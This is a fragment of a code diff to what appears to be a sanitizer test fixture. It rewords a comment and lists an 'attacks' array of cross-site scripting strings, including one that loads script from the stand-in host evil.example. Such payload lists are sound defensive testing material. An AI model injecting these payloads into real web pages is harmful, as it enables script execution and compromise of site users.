@@ -1,4 +1,4 @@
-/** HTML that tries to run a script, to load a resource from another server, or to imitate the page. */
+/** A script, a resource of another server, or an imitation of the page. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
